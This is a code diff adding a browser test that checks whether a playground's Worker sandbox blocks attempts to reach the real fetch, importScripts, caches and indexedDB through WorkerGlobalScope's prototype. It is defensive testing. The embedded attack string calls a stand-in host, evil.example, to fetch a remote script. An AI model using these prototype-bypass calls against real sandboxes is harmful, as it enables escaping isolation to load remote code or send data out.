@@ -221,3 +221,30 @@ test('a framing page cannot place url() in the embed’s look through var()', as
     await other.close();
   }
 });
+
+test('the real fetch, importScripts, caches and indexedDB on the Worker’s prototypes are closed too', async ({
+  page,
+}) => {
+  const attack = `const proto = (WorkerGlobalScope as any).prototype;
+const tries: [string, () => unknown][] = [
+  ['fetch', () => proto.fetch.call(self, 'http://evil.example/')],
+  ['importScripts', () => proto.importScripts.call(self, 'http://evil.example/x.js')],
+  ['caches', () => Object.getOwnPropertyDescriptor(proto, 'caches')!.get!.call(self)],
+  ['indexedDB', () => Object.getOwnPropertyDescriptor(proto, 'indexedDB')!.get!.call(self)],
+];
+for (const [name, attempt] of tries) {
+  try {
+    await attempt();
+    console.log(name, 'reached');
+  } catch (error) {
+    console.log(name, 'refused:', (error as Error).message.slice(0, 40));
+  }
+}
+`;
+  await page.goto(playgroundLink(attack));
+  await run(page);
+  const console = region(page, 'Console');
+  for (const name of ['fetch', 'importScripts', 'caches', 'indexedDB'])
+    await expect(console).toContainText(`${name} refused: MCP Tour runs code offline`);
+  await expect(console).not.toContainText('reached');
+});
